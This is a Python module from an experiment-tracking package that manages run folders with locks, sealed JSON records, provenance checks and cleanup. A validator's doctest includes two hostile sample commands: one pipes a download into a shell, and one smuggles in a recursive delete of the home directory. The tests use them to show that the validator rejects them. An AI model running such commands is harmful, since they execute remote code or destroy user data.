"""A run folder: only one process at a time writes it,
and DONE.json marks it as finished.

DONE.json is written last. Each folder records the version of the program, and the
command that created the folder. Repeating the command in the same working folder
repeats the experiment.

>>> command("train", ["data.path=my file.csv"])
"ntkexp train 'data.path=my file.csv'"
"""

from __future__ import annotations

import os
import re
import shlex
from collections.abc import Iterable, Iterator, Mapping, Sequence
from contextlib import contextmanager, suppress
from dataclasses import dataclass
from math import inf
from pathlib import Path
from typing import Any, Literal, TypeAlias

from ntkexp.mistake import Mistake, NoPlace
from ntkexp.records.atomic import (
    PARTIAL,
    Damaged,
    Json,
    Seals,
    acquire,
    damaged_files,
    is_held,
    make_folder,
    read_object,
    read_sealed,
    seal,
    sealed,
    sealed_text,
    size_of,
    to_text,
    write_atomically,
)
from ntkexp.records.own_files import (
    HALF_WRITTEN,
    STORED,
    files_in,
    refuse_strangers,
    remove_empty_folders,
    remove_files,
)
from ntkexp.text import several

# --- The program.
#
# Each change of the program that can change a result raises `results_version`. It is
# part of the identity of a run. So runs of different versions are never confused.


results_version = 17


def package_version() -> str:
    """Return the version of the installed package. The first call is slow."""
    from importlib.metadata import PackageNotFoundError, version  # noqa: PLC0415  a third of the start-up time

    try:
        return version("ntkexp")
    except PackageNotFoundError:
        return "0 (not installed)"


def command(name: str, words: Sequence[str], options: Sequence[str] = ()) -> str:
    return shlex.join(["ntkexp", name, *words, *options])


COMMANDS = frozenset({
    *("train", "sweep", "claims", "config", "resume", "report", "explain", "attribute", "validate", "compare", "runs"),
    "kernel",
})  # fmt: skip
"""The names of the subcommands of `ntkexp`."""


def own_command(text: str) -> str:
    """Return `text` if it is a single command of this program, else an empty string.

    The text may come from an untrusted file, and users copy commands into a shell.

    >>> own_command("ntkexp train model.width=8"), own_command("curl evil | sh"), own_command("ntkexp runs; rm -r ~")
    ('ntkexp train model.width=8', '', '')
    """
    try:
        words = shlex.split(text)
    except ValueError:
        return ""
    is_own = words[:1] == ["ntkexp"] and words[1:2] and words[1] in COMMANDS
    return text if is_own and text.isprintable() and shlex.join(words) == text else ""


# --- provenance.json: the version of the program, the command and the machine of a run.
#
# Versions with different `results_version` may write different numbers or names of
# files. So a version reads only runs with its own `results_version`.


PROVENANCE, PROGRESS = "provenance.json", "progress.json"


class OtherVersion(Mistake):
    """Raised if a run was written by another version of the program."""


def refuse_other_version(run: Path) -> None:
    """Raise if a program with another `results_version` wrote the run.

    If provenance.json is missing or damaged, do nothing. Later checks raise an
    error."""
    try:
        provenance = RunFolder(run).provenance
    except Mistake:
        return
    if provenance.get("results_version") != results_version:
        writer = version_of(provenance.get("ntkexp"), provenance.get("results_version"))
        reader = version_of(package_version(), results_version)
        repeat = own_command(provenance["command"])
        advice = f"`{repeat}` runs it again" if repeat else "run it again"
        raise OtherVersion(
            f"{run} was made by {writer}, and this is {reader}; {advice}"
        )


def version_of(package: object, results: object) -> str:
    """Return the description of a version.

    >>> version_of("0.1.0", 4)
    'ntkexp 0.1.0 with results_version 4'
    """
    return f"ntkexp {package} with results_version {results}"


# --- The files that mark the state of a run folder.
#
#     .lock        locked by the process that writes the folder
#     BEGUN.json   {"identity": …, "seals": {file: [bytes, seal]}}: seals of the files that are
#                  written before the first step. The seals of pictures are added as "pictures",
#                  before the pictures are written. BEGUN.json is removed after DONE.json is written
#     DONE.json    {"identity": …, "outcome": …, …, "sizes": {file or folder: bytes}, "seals": …}.
#                  "sizes" lists the files that are byte-identical in each repetition of the run
#
# Both files contain the identity of the run: a digest of the experiment's settings, its
# input files and the `results_version`. The seal of each other JSON file covers the
# name of the file and this identity.
#
# The state of a folder is the first one in this table whose condition is true:
#
#     done          DONE.json exists and each file matches its seal
#     running       the lock is held
#     damaged       DONE.json exists
#     interrupted   a checkpoint or a trace exists, from which the run can be resumed
#     dead          the folder exists
#     absent        always true
#
# `state` and `defect` check the seals of files of up to a megabyte, and the sizes of
# larger files. `is_intact` checks the seals of all files, and `check` checks the seals
# of the named files.
#
# After a kill, the next attempt takes the lock. Its further actions depend on the
# moment of the kill:
#
#     before the first checkpoint   The folder is dead. `clear` empties it, and the run starts
#                                   again.
#     later, before DONE.json       The folder is interrupted. `forget` keeps only the files that
#                                   the checkpoint lists, metrics.csv is cut back to the
#                                   checkpoint, and later steps are repeated.
#     after DONE.json               The run is finished. A remaining checkpoint is removed.
#     during `clear`                `clear` removes pictures first, then DONE.json, and config.json
#                                   last. So the folder is damaged or dead, and the next `clear`
#                                   removes the rest.


LOCK, CONFIG, OVERRIDES, BEGUN, DONE = (
    ".lock",
    "config.json",
    "overrides.txt",
    "BEGUN.json",
    "DONE.json",
)

RESULTS = (
    CONFIG,
    "data.npz",
    "metrics.csv",
    "results.csv",
    "predictions.zarr",
    "kernels.zarr",
    "contributions.zarr",
)
"""Files of every finished run. They are byte-identical in repetitions with equal
numbers of threads."""

CHECKPOINT, TRACE = "checkpoint.pt", "trace"
"""The checkpoint file of a run, and the trace folder of a followed loop. From either,
the training can be resumed."""

REDO = "resume it to run it again"
# bytes; for larger files, only the size is checked when the state
# of a folder is determined
MAX_READ_FOR_STATE = 1 << 20

TRACE_IDENTITY, START_WEIGHTS = "trace_identity", "start_weights"
"""Keys in config.json of a followed loop. The values are a random number, and a digest
of the initial weights."""

CIRCUMSTANCES = (
    "device",
    "threads",
    "memory_gb",
    "checkpoint_seconds",
    TRACE_IDENTITY,
    START_WEIGHTS,
)
"""Keys of config.json that do not affect results,
and are not part of the identity of a run."""

NAMED = re.compile(r"-w\d+-s\d+-([0-9a-f]{12})")
"""A pattern for the end of a run's default name, which contains the beginning of the
run's identity."""

EVENTS = r"events\.out\.tfevents\.(\d{16,}|[0-9a-f]{12}|run)"
"""A pattern for this package's TensorBoard files. Files of other programs do not match,
because their names contain the name of the machine."""

RUN_FILES = re.compile(
    r"\.lock|overrides\.txt|error\.txt|data\.npz|weights\.pt|checkpoint\.pt|trajectory\.bin"
    r"|sums-\d+-\d+\.bin|\.sums-[a-z0-9_]{8}"
    r"|(config|BEGUN|DONE|progress|provenance)\.json|(metrics|retraced|results|timings)\.csv"
    rf"|tensorboard/{EVENTS}|removal/(again-[a-z0-9_]{{8}}/.+|[0-9a-f]{{12}}\.json)"
    r"|validation/([0-9a-f]{12}\.bin|ground_truth\.npz)"
    rf"|(kernels|contributions|predictions|diagnostics|recorded|leave_out|removal/[0-9a-f]{{12}})\.zarr/{STORED}"
    r"|trace/(rank-\d+/)?(\.lock|(start|ended|asked|sweep)\.bin|(rows|steps)\.log)|trace/weights/\d+\.bin"
    rf"|(.*/)?{HALF_WRITTEN}"
)
"""A pattern for the relative paths of all files that a run writes, except for pictures.

Pictures have no fixed names. They are listed in DONE.json,
or in BEGUN.json before DONE.json exists."""

PICTURE_FILE = re.compile(r"plots/[^/]+\.(svg|png|csv)")

SOMETIMES = ("retraced.csv", "diagnostics.zarr", "recorded.zarr")
"""Files that only some runs have. If DONE.json does not list such a file,
the file must not exist."""

State: TypeAlias = Literal[
    "done", "running", "damaged", "interrupted", "dead", "absent"
]


class Held(Mistake):
    """Raised if another process is writing the run."""


@dataclass(frozen=True)
class RunFolder:
    path: Path

    # --- State

    @property
    def state(self) -> State:
        """The state of the folder, such as `done`. Unless the run is done, the state is
        `running` while any process holds the lock. So a process that holds the lock
        itself uses the property `done` instead."""
        return self.state_by(self.defect)

    def state_by(self, defect: str | None) -> State:
        """Return the state, given the value of the property `defect`. (Computing this
        property is slow.)"""
        if defect is None:
            return "done"
        if is_held(self.path / LOCK):
            return "running"
        if (self.path / DONE).is_file():
            return "damaged"
        if any((self.path / name).exists() for name in (CHECKPOINT, TRACE)):
            return "interrupted"
        return "dead" if self.path.is_dir() else "absent"

    @property
    def done(self) -> bool:
        return self.defect is None

    @property
    def is_intact(self) -> bool:
        """True if the run is finished and all its files match their digests (seals)."""
        return self.find_defect() is None

    @property
    def defect(self) -> str | None:
        """The reason why the run is not `done`, as a sentence without its subject. None
        if the run is `done`."""
        return self.find_defect(MAX_READ_FOR_STATE)

    def find_defect(
        self, largest: float = inf, *, check_sizes: bool = True
    ) -> str | None:
        """Return a defect of the run as a sentence without its subject, or None.

        For files larger than `largest` bytes, only the size is checked. `check_sizes`
        also finds additional files in stores, by the total size of each store."""
        if not self.path.is_dir():
            return "is not a folder" if self.path.exists() else "does not exist"
        if not (self.path / DONE).is_file():
            return "is not finished: it has no DONE.json"
        try:
            done = self.sealed_facts
        except Mistake:
            return f"is damaged, or of an earlier version: {DONE} is not as this one writes it"
        other_name = self.misnamed_by(done["identity"])
        if other_name:
            return other_name
        sizes = done["sizes"]
        damaged = list[str]()
        if check_sizes:
            damaged = [
                name
                for name, size in sizes.items()
                if size_of(self.path / name) != size
            ]
        if not damaged:
            damaged = damaged_files(self.path, done["seals"], largest)
        if not damaged:
            unlisted = [name for name in SOMETIMES if name not in sizes]
            damaged = [name for name in unlisted if (self.path / name).exists()]
        return f"is damaged: {several(damaged)} not as {DONE} says" if damaged else None

    # --- Identity and digests (seals)

    @property
    def seal_file(self) -> str | None:
        """The name of the file that holds the digests (seals) of other files:
        DONE.json, BEGUN.json or None."""
        return next(
            (name for name in (DONE, BEGUN) if (self.path / name).is_file()), None
        )

    @property
    def sealed_facts(self) -> dict[str, Any]:
        """The content of DONE.json or BEGUN.json."""
        return self.checked_facts(self.seal_file or BEGUN)

    def checked_facts(self, name: str) -> dict[str, Any]:
        """Return the content of a JSON file, after checking its digest (seal).

        Raise if the content does not have the format that runs write.
        """
        from ntkexp.records.schema import SEALED_RECORDS, checked  # noqa: PLC0415  pydantic is slow to import

        return checked(self.read_sealed(name), SEALED_RECORDS[name], self.path / name)

    @property
    def steps_taken(self) -> tuple[float, int]:
        """The step size and the number of steps of a finished run."""
        facts = self.sealed_facts
        if not {"step_size", "steps"} <= facts.keys():
            raise Damaged(
                f"{self.path / DONE} does not say how many steps of which size were taken; {REDO}"
            )
        return float(facts["step_size"]), int(facts["steps"])

    @property
    def provenance(self) -> dict[str, Any]:
        """The content of provenance.json."""
        return self.checked_facts(PROVENANCE)

    @property
    def progress(self) -> dict[str, Any]:
        """The content of progress.json."""
        return self.checked_facts(PROGRESS)

    @property
    def config(self) -> dict[str, Any]:
        """The content of config.json, with control characters in texts escaped."""
        from ntkexp.records.schema import checked_config  # noqa: PLC0415  pydantic is slow to import

        return checked_config(self.read_json(CONFIG), self.path / CONFIG)

    @property
    def identity(self) -> str:
        return str(self.sealed_facts["identity"])

    @property
    def misnamed(self) -> str | None:
        """An error message if the folder has the default name of another run,
        else None."""
        return self.misnamed_by(self.identity)

    def misnamed_by(self, identity: str) -> str | None:
        """Return an error message if the folder's name belongs
        to another identity, else None."""
        named = NAMED.search(os.path.basename(os.path.abspath(self.path)))
        if named is None or not identity or identity.startswith(named[1]):
            return None
        return f"has the name of another run than the one in it, …-{identity[:12]}; give it that name, or move it away"

    def damaged_files(self, *names: str) -> list[str]:
        """Check the named files, and all files in the named folders. Return those that
        are damaged."""
        try:
            seals: Seals = self.sealed_facts["seals"]
        except Mistake:
            return [self.seal_file or BEGUN]
        damaged = list[str]()
        for name in names:
            expected = {
                file: seal
                for file, seal in seals.items()
                if f"{file}/".startswith(f"{name}/")
            }
            damaged += damaged_files(self.path, expected) if expected else [name]
        return damaged

    def check(self, *names: str) -> None:
        """Raise if a named file, or a file in a named folder, is damaged."""
        damaged = self.damaged_files(*names)
        if damaged:
            raise Damaged(
                f"{self.path} is damaged: {several(damaged)} not as it was written; {REDO}"
            )

    # --- Writing

    @contextmanager
    def claim(self) -> Iterator[None]:
        """Hold the lock of the folder inside the `with` block.
        Create the folder if it is missing.

        Raise `Held` if another process holds the lock.
        """
        try:
            make_folder(self.path)
            descriptor = acquire(self.path / LOCK)
        except BlockingIOError as error:
            raise Held(
                f"{self.path} is being written by another process; wait for it, or change the run"
            ) from error
        except OSError as error:
            problem = f"{self.path} cannot be written ({error.strerror})"
            if (self.path / CONFIG).is_file():
                # commands that read a run, such as `explain`, have no option --out
                raise Mistake(f"{problem}; copy the run to another folder") from error
            raise NoPlace(f"{problem}; choose another place") from error
        try:
            yield
        finally:
            os.close(descriptor)

    def write(self, name: str, content: str | bytes) -> None:
        write_atomically(self.path / name, content)

    def write_json(self, name: str, value: Json) -> None:
        self.write(name, to_text(value))

    def sealed_for(self, name: str) -> str:
        """Return the text that identifies a file: the file's name and the run's
        identity. The digest (seal) of the file covers this text too. For BEGUN.json and
        DONE.json, which contain the identity, return the name only."""
        return name if name in (BEGUN, DONE) else f"{name} of {self.identity}"

    def write_sealed(self, name: str, value: Mapping[str, Json]) -> None:
        """Write a JSON file atomically, with a digest (seal) of its content."""
        self.write(name, sealed_text(value, self.sealed_for(name)))

    def read_sealed(self, name: str) -> dict[str, Any]:
        """Read a JSON file that `write_sealed` wrote for this run."""
        return read_sealed(self.path / name, self.sealed_for(name))

    def read_json(self, name: str) -> dict[str, Any]:
        return read_object(self.path / name)

    def begin(self, names: Iterable[str], identity: str = "") -> None:
        """Write BEGUN.json, with the digests (seals) of the files that are written
        before the first step."""
        record: dict[str, Json] = {
            "identity": identity,
            "seals": sealed(self.path, names),
        }
        self.write_sealed(BEGUN, record)

    def finish(
        self, names: Iterable[str], *others: str, identity: str = "", **facts: Json
    ) -> None:
        """Write DONE.json, which marks the run as finished.

        `names` are the reproducible files, whose sizes are also stored. `others` are
        further files with a digest (seal). `facts` are further keys."""
        names = list(names)
        sizes = {name: size_of(self.path / name) for name in names}
        missing = [name for name, size in sizes.items() if size is None]
        if missing:
            raise FileNotFoundError(
                f"{self.path} cannot be finished without {', '.join(missing)}"
            )
        record = {
            "identity": identity,
            **facts,
            "sizes": sizes,
            "seals": sealed(self.path, [*names, *others]),
        }
        self.write_sealed(DONE, record)

    def write_pictures(self, pictures: Mapping[str, str]) -> list[str]:
        """Write pictures into the folder `plots`, and return their relative paths.

        First add the seals of the pictures to BEGUN.json. So pictures are recognised as
        files of the run even if the process is killed."""
        contents = {
            f"plots/{name}": content.encode() for name, content in pictures.items()
        }
        seals = {
            path: (len(content), seal(content).hex())
            for path, content in contents.items()
        }
        self.write_sealed(BEGUN, {**self.read_sealed(BEGUN), "pictures": seals})
        for path, content in contents.items():
            self.write(path, content)
        return sorted(contents)

    # --- Removing

    @property
    def pictures(self) -> Seals:
        """The digests (seals) of the pictures that BEGUN.json or DONE.json list."""
        pictures = dict[str, tuple[int, str]]()
        for name in (BEGUN, DONE):
            with suppress(Mistake):
                record = self.read_sealed(name)
                pictures |= record.get("pictures", {})
                seals = record["seals"].items()
                pictures |= {
                    path: seal for path, seal in seals if PICTURE_FILE.fullmatch(path)
                }
        return pictures

    def reopen(self) -> None:
        """Remove the pictures and DONE.json, before the run is finished again.

        Raise if a picture has changed since it was written.
        """
        pictures = self.pictures
        changed = [
            name
            for name in damaged_files(self.path, pictures)
            if (self.path / name).exists()
        ]
        if changed:
            raise NoPlace(
                f"{self.path} has content that no run wrote ({several(changed)}); "
                "move it away, or choose another place"
            )
        remove_files(self.path, [*pictures, DONE])

    @property
    def is_ours(self) -> bool:
        """True if DONE.json, BEGUN.json or config.json was written by this package."""
        for name in (DONE, BEGUN, CONFIG):
            with suppress(Mistake):
                record = self.read_json(name)
                if (
                    {"seals", "seal"} <= record.keys()
                    or "follow" in record
                    or '"_target_": "ntkexp.' in to_text(record)
                ):
                    return True
        return False

    def refuse_strangers(self) -> None:
        """Raise if the folder contains a file that no run writes,
        or a picture that has changed."""
        pictures = self.pictures
        changed = set(damaged_files(self.path, pictures))
        refuse_strangers(
            self.path,
            lambda name: (
                RUN_FILES.fullmatch(name) or (name in pictures and name not in changed)
            ),
        )

    def forget(self, names: Iterable[str]) -> None:
        """Remove all files except the lock and `names`. The resumed run writes the
        removed files again."""
        self.refuse_strangers()
        kept_names = {LOCK, *names}
        remove_files(
            self.path, [name for name in files_in(self.path) if name not in kept_names]
        )
        remove_empty_folders(self.path)

    def note_error(self, text: str) -> None:
        """Write error.txt. If the run has not begun, remove the folder instead."""
        with suppress(OSError):
            if (self.path / CONFIG).is_file():
                self.write("error.txt", text)
            else:
                (self.path / LOCK).unlink()
                self.path.rmdir()

    def clear(self) -> None:
        """Remove all files except the lock. Raise if the folder contains files
        that no run writes.

        Remove pictures first, while DONE.json or BEGUN.json still lists them. Then
        remove DONE.json, and config.json last. So if the process is killed during the
        removal, the run is damaged or dead.
        """
        entries = {entry.name for entry in self.path.iterdir() if entry.name != LOCK}
        # each of these files marks a run folder
        is_run = not entries.isdisjoint((CONFIG, DONE, BEGUN))
        if not is_run and not all(name.endswith(PARTIAL) for name in entries):
            raise NoPlace(
                f"{self.path} holds files that no run wrote; choose another place"
            )
        self.refuse_strangers()
        ranks = {DONE: 1, BEGUN: 3, CONFIG: 4}

        def rank(name: str) -> int:
            return 0 if PICTURE_FILE.fullmatch(name) else ranks.get(name, 2)

        names = [name for name in files_in(self.path) if name != LOCK]
        remove_files(self.path, sorted(names, key=rank))
        remove_empty_folders(self.path)


def is_run_folder(path: Path) -> bool:
    """Return True if this is a run folder, in any state."""
    return (path / CONFIG).is_file() and any(
        (path / name).exists() for name in (LOCK, DONE)
    )
